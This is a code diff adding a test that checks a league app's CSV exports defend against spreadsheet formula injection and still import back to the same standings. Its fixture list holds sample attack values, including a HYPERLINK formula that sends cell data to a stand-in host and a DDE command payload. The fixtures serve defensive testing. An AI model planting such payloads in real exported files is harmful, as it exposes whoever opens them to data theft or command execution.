@@ -219,3 +219,66 @@ def test_a_leagues_plays_taken_out_as_csv_and_imported_elsewhere_give_the_same_s
     standings = api.get(f"/leagues/{league['id']}/standings.csv").get_data(as_text=True).splitlines()
     assert standings[0] == "rank,player,games,wins,points,average_score,rating"
     assert {line.split(",")[1] for line in standings[1:]} == {m["name"] for m in members}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "'Tis Ann",
+    "''=quoted",
+]
+
+
+def test_exported_cells_start_no_formula_and_import_back_to_the_same_standings(client, pool, database_url):
+    """A text cell that a spreadsheet would read as a formula leads with a
+    quote (OWASP's CSV injection advice); numbers, negative ones included,
+    stay numbers; the import takes the quote off again."""
+    import csv
+
+    club = ClubFactory(client=client)
+    api = Api(client, club["admin_token"])
+    league = LeagueFactory(client=client, club=club, engine="house-of-cronies")
+    players = [PlayerFactory(client=client, club=club, name=name)["id"] for name in FORMULAS]
+    for first in range(len(players)):
+        seated = [players[(first + k) % len(players)] for k in range(3)]
+        scores = [-7 - first, 0, 5 + first]
+        body = {
+            "engine": "house-of-cronies",
+            "league": league["id"],
+            "players": [{"player": p, "score": s} for p, s in zip(seated, scores, strict=True)],
+        }
+        assert api.post(f"/clubs/{club['id']}/results", body).status_code == 201
+    drain(database_url)
+
+    exports = {
+        path: list(csv.reader(io.StringIO(api.get(path).get_data(as_text=True))))
+        for path in (
+            f"/clubs/{club['id']}/plays.csv",
+            f"/leagues/{league['id']}/plays.csv",
+            f"/leagues/{league['id']}/standings.csv",
+        )
+    }
+    for rows in exports.values():
+        header, *body = rows
+        text = [header.index(c) for c in ("game", "player") if c in header]
+        for row in body:
+            for i, cell in enumerate(row):
+                if i in text:
+                    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
+                elif cell and header[i] not in ("date", "play", "options"):
+                    float(cell)  # a number stays a number
+    plays = exports[f"/clubs/{club['id']}/plays.csv"]
+    assert any(row[3].startswith("-") for row in plays[1:])  # negative scores as they are
+    names = {row[1] for row in exports[f"/leagues/{league['id']}/standings.csv"][1:]}
+    assert names == {"'" + n for n in FORMULAS}
+
+    other = ClubFactory(client=client)
+    copy = LeagueFactory(client=client, club=other, engine="house-of-cronies")
+    text = api.get(f"/leagues/{league['id']}/plays.csv").get_data()
+    r = upload(Api(client, other["admin_token"]), other, "league.csv", text, league=copy["id"])
+    assert r.status_code == 201, r.get_json()
+    assert sorted(r.get_json()["players_added"]) == sorted(FORMULAS)
+    drain(database_url)
+    assert standings_by_name(pool, copy["id"]) == standings_by_name(pool, league["id"])
